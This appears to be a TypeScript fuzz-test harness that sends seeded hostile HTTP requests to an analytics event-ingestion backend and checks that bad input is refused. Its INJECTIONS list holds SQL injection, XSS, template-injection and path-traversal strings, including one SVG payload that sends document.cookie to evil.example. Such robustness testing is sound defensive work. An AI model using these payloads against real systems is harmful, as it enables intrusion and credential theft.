import { Agent, request as httpRequest } from 'node:http';
import { EVENT_TYPE_PATTERN } from '@trailmark/protocol';
import { OTHER, SITE } from './backends.js';
import { type Rng, seeded, uuidFrom } from './random.js';

/** One generated request and what it may store. */
export interface HostileRequest {
  kind: string;
  method: string;
  body: string | Uint8Array<ArrayBuffer> | undefined;
  /** `null`: no key at all. */
  key: string | null;
  headers: Record<string, string>;
  /** Events this request must get stored (each exactly once over the whole run). */
  good: string[];
  /** Events a backend may store or refuse (behaviour the protocol leaves open); never twice. */
  maybe: string[];
}

/** What a hostile run saw. */
export interface HostileReport {
  requests: number;
  statuses: Record<string, number>;
  kinds: Record<string, number>;
  /** Requests per route. */
  routes: Record<string, number>;
  networkErrors: number;
  durationMs: number;
  goodEvents: Set<string>;
  maybeEvents: Set<string>;
  /** The first few answers ≥ 500 or network errors, to name in a failure. */
  failures: string[];
}

/** Injection strings: SQL, HTML/JS, template, path, format and JSON-breaking text. */
export const INJECTIONS = [
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '" OR ""="',
  '1; DELETE FROM events_log WHERE 1=1',
  "Robert'); DROP TABLE visitors;--",
  '\\x27 UNION SELECT api_key, kind FROM api_keys --',
  '$$; DROP SCHEMA public CASCADE; $$',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template injection string, meant literally
  '<svg/onload=fetch(`//evil.example?c=${document.cookie}`)>',
  '{{constructor.constructor("return process")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template injection string, meant literally
  '${7*7}',
  '../../../../etc/passwd',
  '%s%s%s%n',
  '\\u0000\\"}]}',
  '"]}],"events":[{"event_id":"x"}]}',
  '__proto__',
  'constructor',
  '\u202e\u2066 RTL \u200b zero-width',
  '😀🚀 𝕦𝕟𝕚𝕔𝕠𝕕𝕖 日本語',
];

/** What each generated event id was made as, to name a wrongly stored event in a failure. */
const labels = new Map<string, string>();

/** The label of a generated event id (`bad event case N`, or undefined for a good one). */
export const labelOf = (id: string): string | undefined => labels.get(id);

const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

function text(rng: Rng, max = 100): string {
  const value = rng.chance(0.6) ? rng.pick(INJECTIONS) : `plain-${rng.int(0, 1e6)}`;
  return value.slice(0, max);
}

/** A valid event for the site, hostile text in every free-text field. */
function goodEvent(rng: Rng, now: number): Record<string, unknown> {
  const event: Record<string, unknown> = {
    event_id: uuidFrom(rng),
    type: rng.pick(['pageview', 'click', 'form_submit', 'page_leave', 'web_vital', 'custom_event', 'x.y:z-1']),
    ts: now - rng.int(0, 3_600_000),
    site_id: SITE.id,
    visitor_id: text(rng),
    session_id: text(rng),
    seq: rng.int(0, 1000),
    url: `https://app.example/${encodeURIComponent(text(rng))}`,
    path: text(rng),
  };
  if (rng.chance(0.5)) event.title = text(rng);
  if (rng.chance(0.5)) event.referrer = text(rng);
  if (rng.chance(0.3)) event.user_id = text(rng);
  if (rng.chance(0.3)) event.utm_source = text(rng);
  if (rng.chance(0.3)) event.language = text(rng);
  if (rng.chance(0.6)) {
    const props: Record<string, unknown> = {};
    for (let i = rng.int(1, 6); i > 0; i--) props[rng.chance(0.2) ? rng.pick(PROTO_KEYS) : text(rng, 40)] = text(rng);
    if (rng.chance(0.3)) props.nested = { list: [text(rng), rng.int(0, 9), null, true], deep: { more: text(rng) } };
    event.props = props;
  }
  return event;
}

/** An event every backend must refuse, one field made wrong. */
function badEvent(rng: Rng, now: number): Record<string, unknown> {
  const event = goodEvent(rng, now);
  const field = rng.int(0, 22);
  const cases: Array<() => void> = [
    () => {
      event.event_id = rng.pick(['not-a-uuid', '', rng.pick(INJECTIONS), 'zzzzzzzz-zzzz-4zzz-8zzz-zzzzzzzzzzzz']);
    },
    () => {
      event.event_id = rng.pick([42, null, true, ['a'], { id: 1 }]);
    },
    () => {
      // Only the injections that are not also valid names ('constructor' is a fine custom event type).
      event.type = rng.pick(INJECTIONS.filter((value) => !EVENT_TYPE_PATTERN.test(value)));
    },
    () => {
      event.type = rng.pick(['', '1abc', 'a'.repeat(65), 7, null]);
    },
    () => {
      event.ts = rng.pick(['now', -1, 1.5, null, now - 30 * 86_400_000, now + 86_400_000, {}]);
    },
    () => {
      event.site_id = rng.pick([OTHER.id, rng.pick(INJECTIONS), '', 5]);
    },
    () => {
      event.visitor_id = rng.pick(['', 'v'.repeat(129), 12, null]);
    },
    () => {
      event.session_id = rng.pick([[], {}, false]);
    },
    () => {
      event.seq = rng.pick([-1, 0.5, '1', null, Number.MAX_SAFE_INTEGER * 4]);
    },
    () => {
      event.url = rng.chance(0.5) ? 'u'.repeat(3000) : 404;
    },
    () => {
      event.path = undefined;
    },
    () => {
      event.title = 't'.repeat(600);
    },
    () => {
      event.referrer = ['r'];
    },
    () => {
      event.utm_source = 's'.repeat(300);
    },
    () => {
      event.screen_w = rng.pick([-5, 100_001, 'wide', 1.5]);
    },
    () => {
      event.dpr = rng.pick([50, -1, 'high']);
    },
    () => {
      event.split_reason = rng.pick(['bogus', rng.pick(INJECTIONS), 1]);
    },
    () => {
      event.bot = rng.pick(['yes', true]);
    },
    () => {
      event.props = rng.pick([[1, 2], 'props', 7, null]);
    },
    () => {
      // Nested far past the 4 levels allowed.
      let deep: Record<string, unknown> = { leaf: 1 };
      for (let i = 0; i < rng.int(6, 2000); i++) deep = { d: deep };
      event.props = deep;
    },
    () => {
      event.props = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`k${i}`, i]));
    },
    () => {
      event.props = { big: 'b'.repeat(rng.pick([2000, 20_000, 200_000])) };
    },
    () => {
      event.props = { list: Array.from({ length: rng.pick([51, 5000, 30_000]) }, (_, i) => i) };
    },
  ];
  (cases[field] as () => void)();
  if (typeof event.event_id === 'string') labels.set(event.event_id, `bad event case ${field}`);
  return event;
}

const envelope = (events: unknown[], now: number) => JSON.stringify({ v: 1, sdk: 'trailmark/hostile', sent_at: now, events });

/**
 * Builds request number `i` of a run. About a quarter are good batches (some with refused events mixed in,
 * some resent); the rest are refused whole: malformed, truncated, wrong types, huge, deeply nested, invalid
 * UTF-8, wrong keys, origins, media types and methods.
 */
export function hostileRequest(rng: Rng, now: number, sent: Array<{ body: string; good: string[] }>): HostileRequest {
  const plain = (
    kind: string,
    body: string | Uint8Array<ArrayBuffer> | undefined,
    extra: Partial<HostileRequest> = {},
  ): HostileRequest => ({
    kind,
    method: 'POST',
    body,
    key: SITE.writeKey,
    headers: { 'content-type': rng.chance(0.5) ? 'text/plain' : 'application/json' },
    good: [],
    maybe: [],
    ...extra,
  });
  const roll = rng.int(0, 99);
  if (roll < 25) {
    // A good batch: valid events with hostile text, maybe with refused ones mixed in.
    const good = Array.from({ length: rng.int(1, 3) }, () => goodEvent(rng, now));
    const bad = rng.chance(0.4) ? Array.from({ length: rng.int(1, 3) }, () => badEvent(rng, now)) : [];
    const events = [...good, ...bad].sort(() => rng.next() - 0.5);
    const body = envelope(events, now);
    const ids = good.map((event) => event.event_id as string);
    sent.push({ body, good: ids });
    const viaHeader = rng.chance(0.3);
    const headers: Record<string, string> = { 'content-type': rng.pick(['text/plain', 'application/json', 'text/plain;charset=UTF-8']) };
    if (viaHeader) headers['x-trailmark-key'] = SITE.writeKey;
    if (rng.chance(0.2)) headers.origin = SITE.origin;
    return plain('good batch', body, { good: ids, headers, ...(viaHeader ? { key: null } : {}) });
  }
  if (roll < 29 && sent.length > 0) {
    // A resend of an earlier good batch: the retry the SDK makes after a lost answer.
    const earlier = rng.pick(sent);
    return plain('resend', earlier.body, { good: earlier.good });
  }
  if (roll < 37) {
    const garbage = [
      '{',
      '}',
      '{"events":[}',
      "{'events': []}",
      '{"events":[{"event_id":1,}]}',
      '{"events": NaN}',
      '{"events":[1e400]}',
      'undefined',
      '<xml/>',
      '',
      ' ',
      '\u0000\u0000',
      Array.from({ length: rng.int(1, 400) }, () => String.fromCharCode(rng.int(32, 126))).join(''),
    ];
    return plain('malformed json', rng.pick(garbage));
  }
  if (roll < 45) {
    const body = envelope(
      Array.from({ length: rng.int(1, 5) }, () => goodEvent(rng, now)),
      now,
    );
    return plain('truncated json', body.slice(0, rng.int(1, body.length - 2)));
  }
  if (roll < 53) {
    const shapes: unknown[] = [
      null,
      true,
      42,
      'events',
      [],
      [goodEvent(rng, now)],
      { events: null },
      { events: 'all' },
      { events: {} },
      { events: [] },
      { v: 2, events: [badEvent(rng, now)] },
      { v: '1', events: [badEvent(rng, now)] },
      { sent_at: 'yesterday', events: [badEvent(rng, now)] },
      { sdk: 's'.repeat(1000), events: [badEvent(rng, now)] },
      { events: [null, 1, 'x', [], true] },
    ];
    return plain('wrong types', JSON.stringify(rng.pick(shapes)));
  }
  if (roll < 62) {
    const events = Array.from({ length: rng.int(1, 4) }, () => badEvent(rng, now));
    return plain('refused events', envelope(events, now));
  }
  if (roll < 63) {
    // Huge: over the body limit, over the event count, or a body of one long string.
    const pickHuge = rng.int(0, 3);
    if (pickHuge === 0) return plain('huge body', `{"events":["${'h'.repeat(600 * 1024)}"]}`);
    if (pickHuge === 1)
      return plain(
        'huge array',
        envelope(
          Array.from({ length: 1001 }, () => 0),
          now,
        ),
      );
    if (pickHuge === 2) return plain('huge string', envelope([{ ...badEvent(rng, now), title: 'x'.repeat(400_000) }], now));
    return plain('huge sdk field', JSON.stringify({ sdk: 'y'.repeat(300_000), events: [badEvent(rng, now)] }));
  }
  if (roll < 70) {
    const depth = rng.pick([100, 1000, 10_000, 10_000, 100_000]);
    const deep = rng.chance(0.5)
      ? `${'['.repeat(depth)}${']'.repeat(depth)}`
      : `{"events":[${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}]}`;
    return plain('deep nesting', deep);
  }
  if (roll < 76) {
    const body = new TextEncoder().encode(envelope([goodEvent(rng, now)], now));
    const bad = rng.pick([[0xff], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0xe2, 0x82], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xfe, 0xff]]);
    const at = rng.int(10, body.length - 10);
    // Inside a string value or anywhere: either way the body is not UTF-8.
    const bytes = new Uint8Array([...body.slice(0, at), ...bad, ...body.slice(at)]);
    return plain('invalid utf-8', bytes);
  }
  if (roll < 80) {
    // Valid JSON and valid UTF-8 that some stores cannot hold: a lone surrogate escape, a NUL character.
    const event = goodEvent(rng, now);
    event.title = rng.chance(0.5) ? 'lone \ud800 surrogate' : 'nul \u0000 inside';
    return plain('unstorable text', envelope([event], now), { maybe: [event.event_id as string] });
  }
  if (roll < 88) {
    const events = [goodEvent(rng, now)];
    const keys: Array<string | null> = [null, '', 'pk_unknown', rng.pick(INJECTIONS), 'k'.repeat(rng.pick([201, 4000])), OTHER.writeKey];
    const key = rng.pick(keys);
    const foreign = key === OTHER.writeKey;
    // Header values must be ASCII (fetch refuses others before sending): those keys go in the query string.
    if (rng.chance(0.3) && key !== null && /^[\x20-\x7e]*$/.test(key)) {
      return plain('bad key header', envelope(events, now), {
        key: null,
        headers: { 'content-type': 'text/plain', authorization: `Bearer ${key}` },
      });
    }
    return plain(foreign ? 'foreign key' : 'bad key', envelope(events, now), { key });
  }
  if (roll < 92) {
    // A read key on the write endpoint: the receiver lets it write, the Worker refuses it; either is allowed.
    if (rng.chance(0.3)) {
      const event = goodEvent(rng, now);
      return plain('read key', envelope([event], now), { key: SITE.readKey, maybe: [event.event_id as string] });
    }
    return plain('wrong origin', envelope([goodEvent(rng, now)], now), {
      headers: { 'content-type': 'text/plain', origin: rng.pick(['https://evil.example', 'null', OTHER.origin, 'http://app.example']) },
    });
  }
  if (roll < 96) {
    return plain('wrong media type', envelope([goodEvent(rng, now)], now), {
      headers: {
        'content-type': rng.pick(['application/xml', 'multipart/form-data; boundary=x', 'image/png', 'application/x-www-form-urlencoded']),
      },
    });
  }
  return { ...plain('wrong method', undefined), method: rng.pick(['GET', 'PUT', 'DELETE', 'PATCH']) };
}

function isErrorJson(text: string): boolean {
  try {
    const body = JSON.parse(text) as { ok?: unknown; code?: unknown; error?: unknown };
    return body.ok === false && typeof body.code === 'string' && typeof body.error === 'string';
  } catch {
    return false;
  }
}

/**
 * Sends `requests` generated requests, `concurrency` at a time, and tallies the answers. Good batches and
 * resends go to `url`; about a third of the others go to one of `routes` (the backend's other endpoints) instead, so
 * every route sees the same hostile input.
 */
export async function runHostile(
  url: string,
  { seed, requests, concurrency, routes = [] }: { seed: number; requests: number; concurrency: number; routes?: string[] },
): Promise<HostileReport> {
  const rng = seeded(seed);
  const now = Date.now();
  const sent: Array<{ body: string; good: string[] }> = [];
  const report: HostileReport = {
    requests: 0,
    statuses: {},
    kinds: {},
    routes: {},
    networkErrors: 0,
    durationMs: 0,
    goodEvents: new Set(),
    maybeEvents: new Set(),
    failures: [],
  };
  const started = performance.now();
  let next = 0;
  const worker = async () => {
    while (next < requests) {
      next++;
      // Generated when taken, in one sequence whatever the worker: the same seed gives the same requests.
      const request = hostileRequest(rng, now, sent);
      for (const id of request.good) report.goodEvents.add(id);
      report.kinds[request.kind] = (report.kinds[request.kind] ?? 0) + 1;
      const elsewhere = request.good.length === 0 && request.maybe.length === 0 && routes.length > 0 && rng.chance(0.35);
      const base = elsewhere ? new URL(rng.pick(routes), url).href : url;
      const route = new URL(base).pathname;
      report.routes[route] = (report.routes[route] ?? 0) + 1;
      const target = request.key === null ? base : `${base}?key=${encodeURIComponent(request.key)}`;
      try {
        const response = await send(agent, target, request);
        const answer = response.text;
        report.statuses[response.status] = (report.statuses[response.status] ?? 0) + 1;
        if (response.status >= 500 && report.failures.length < 5)
          report.failures.push(`${request.kind} on ${route} → ${response.status} ${answer.slice(0, 200)}`);
        // Every error has the JSON shape `{ ok: false, code, error }`.
        if (response.status >= 400 && !isErrorJson(answer) && report.failures.length < 5)
          report.failures.push(`${request.kind} on ${route} → ${response.status} not the JSON error shape: ${answer.slice(0, 200)}`);
        // A good request not answered 200 leaves its events missing, which fails the run: name it.
        if (response.status !== 200 && request.good.length > 0 && report.failures.length < 5) {
          report.failures.push(`${request.kind} → ${response.status} ${answer.slice(0, 200)}`);
        }
        for (const id of request.maybe) report.maybeEvents.add(id);
      } catch (error) {
        report.networkErrors++;
        if (report.failures.length < 5) {
          const cause = (error as Error & { cause?: { code?: string; message?: string } }).cause;
          report.failures.push(
            `${request.kind} on ${route} → network error ${(error as Error).message}: ${cause?.code ?? cause?.message ?? ''}`,
          );
        }
      }
      report.requests++;
    }
  };
  // One kept-alive connection a worker, as fetch's pool keeps them.
  const agent = new Agent({ keepAlive: true, maxSockets: concurrency });
  try {
    await Promise.all(Array.from({ length: concurrency }, worker));
  } finally {
    agent.destroy();
  }
  report.durationMs = performance.now() - started;
  return report;
}

/**
 * Sends one generated request over node:http and reads the whole answer. The same request fetch sent (method,
 * headers, body with its length), for about a sixth of fetch's client CPU: ten thousand requests a backend, and the
 * backend under test runs in this process or beside it on the same cores. A failure to connect or a reset rejects
 * like fetch's, the code in `cause`.
 */
function send(agent: Agent, target: string, { method, headers, body }: HostileRequest): Promise<{ status: number; text: string }> {
  const url = new URL(target);
  const bytes = typeof body === 'string' ? Buffer.from(body) : body;
  // fetch declares a length on every method that may carry a body, an empty one too; none on a bodiless GET.
  const length = bytes || method !== 'GET' ? { 'content-length': String(bytes?.byteLength ?? 0) } : {};
  return new Promise((resolve, reject) => {
    const failed = (error: Error & { code?: string }) =>
      reject(Object.assign(new Error('fetch failed'), { cause: { code: error.code, message: error.message } }));
    const outgoing = httpRequest(
      { agent, host: url.hostname, port: url.port, path: `${url.pathname}${url.search}`, method, headers: { ...headers, ...length } },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => resolve({ status: response.statusCode ?? 0, text: Buffer.concat(chunks).toString('utf8') }));
        response.on('error', failed);
      },
    );
    outgoing.on('error', failed);
    outgoing.end(bytes);
  });
}
